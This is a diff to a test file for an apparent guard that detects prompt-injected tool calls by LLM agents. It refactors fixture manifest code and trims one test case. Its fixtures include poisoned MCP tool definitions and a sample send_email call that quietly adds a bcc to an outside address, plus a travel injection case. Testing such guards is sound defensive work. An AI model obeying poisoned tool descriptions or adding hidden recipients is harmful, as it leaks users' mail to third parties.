@@ -8,7 +8,6 @@
  * every tool result, description and user request moves the call's log-prob, and MindGuard reads attention.
  */
 import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
-import { createHash } from 'node:crypto';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -20,6 +19,7 @@ import type { GuardInput } from '../../src/core/types.js';
 import { buildVariants } from '../../src/core/variants.js';
 import { formatJson } from '../../src/engine/chat-format.js';
 import { renderingFor, templateProblem, type Rendering } from '../../src/engine/engine.js';
+import { buildManifest } from '../../src/engine/files-node.js';
 import { encodeTemplateCall } from '../../src/engine/template-format.js';
 import { createProxyTokenizer, type ProxyTokenizer } from '../../src/engine/tokenizer.js';
 import { createNodeGuard } from '../../src/node.js';
@@ -52,6 +52,16 @@ const CASES: Record<'mcp' | 'travel' | 'long', GuardInput> = {
   mcp: { messages: MESSAGES, tools: POISONED, action: { name: 'send_email', arguments: { ...ASKED, bcc: 'archive@mail-vault.io' } } },
   travel: inputOf(findCase('travel', 'injection', 1)!),
   long: longCase(),
+};
+
+/**
+ * The cases as the decoders score them: the long one with only the called tool's definition, since each
+ * definition costs a 5k-token variant whose logits span the whole vocabulary (the MCP and travel checks
+ * leave every definition out in turn; the rendering tests render the long one's whole tool list).
+ */
+const MODEL_CASES: Record<keyof typeof CASES, GuardInput> = {
+  ...CASES,
+  long: { ...CASES.long, tools: CASES.long.tools!.filter((t) => (t as { name?: string }).name === CASES.long.action.name) },
 };
 
 /** Whether a string the template prints (a description, an argument) is in the text, as given or JSON-escaped. */
@@ -156,20 +166,13 @@ describe('renderings chosen for real tokenizers and templates', () => {
 });
 
 /** A copy of a family fixture whose own chat template is `template`, manifest re-pinned (q4 only). */
-function withOwnTemplate(dir: string, template: string): string {
+async function withOwnTemplate(dir: string, template: string): Promise<string> {
   const out = mkdtempSync(join(tmpdir(), 'family-'));
   mkdirSync(join(out, 'onnx'));
-  const files = ['config.json', 'tokenizer.json', 'onnx/model_q4.onnx'];
-  for (const f of files) copyFileSync(join(dir, f), join(out, f));
+  for (const f of ['config.json', 'tokenizer.json', 'onnx/model_q4.onnx']) copyFileSync(join(dir, f), join(out, f));
   const config = JSON.parse(readFileSync(join(dir, 'tokenizer_config.json'), 'utf8')) as Record<string, unknown>;
   writeFileSync(join(out, 'tokenizer_config.json'), JSON.stringify({ ...config, chat_template: template }));
-  const pinned = Object.fromEntries(
-    [...files, 'tokenizer_config.json'].sort().map((f) => {
-      const bytes = readFileSync(join(out, f));
-      return [f, { sha256: createHash('sha256').update(bytes).digest('hex'), size: bytes.length }];
-    }),
-  );
-  writeFileSync(join(out, 'manifest.json'), JSON.stringify({ files: pinned, model: 'tiny-smollm2-template', created_by: 'model/manifest.py' }));
+  writeFileSync(join(out, 'manifest.json'), JSON.stringify(await buildManifest(out, 'tiny-smollm2-template')));
   return out;
 }
 
@@ -187,7 +190,7 @@ describe.skipIf(!CAN_BUILD_FAMILY_MODELS)('model verdicts on random-weight decod
         const guard = createNodeGuard({ modelDir: familyModelDir(family), modelVariant: 'q4', backends: ['node'], timeoutMs: CHECK_TIMEOUT_MS });
         guards.push(guard);
         expect(await guard.ready).toMatchObject({ rendering: EXPECTED[family], variant: 'q4' });
-        for (const [name, input] of Object.entries(CASES)) {
+        for (const [name, input] of Object.entries(MODEL_CASES)) {
           const v = await guard.check(input);
           expect(v, `${family} ${name}: ${v.error?.message ?? ''}`).toMatchObject({ reason: 'model', rendering: EXPECTED[family] });
           const variants = v.attribution!.variants;
@@ -219,7 +222,7 @@ describe.skipIf(!CAN_BUILD_FAMILY_MODELS)('model verdicts on random-weight decod
   it(
     "a model whose own template is SmolLM2's gets the chatml-tools rendering and a model verdict; forcing the raw template refuses the check",
     async () => {
-      const dir = withOwnTemplate(familyModelDir('qwen3'), SMOLLM2_TEMPLATE);
+      const dir = await withOwnTemplate(familyModelDir('qwen3'), SMOLLM2_TEMPLATE);
       const shipped = createNodeGuard({ modelDir: dir, modelVariant: 'q4', backends: ['node'], timeoutMs: CHECK_TIMEOUT_MS, actionText: 'raw' });
       const forced = createNodeGuard({ modelDir: dir, modelVariant: 'q4', backends: ['node'], timeoutMs: CHECK_TIMEOUT_MS, actionText: 'raw', chatTemplate: SMOLLM2_TEMPLATE });
       guards.push(shipped, forced);
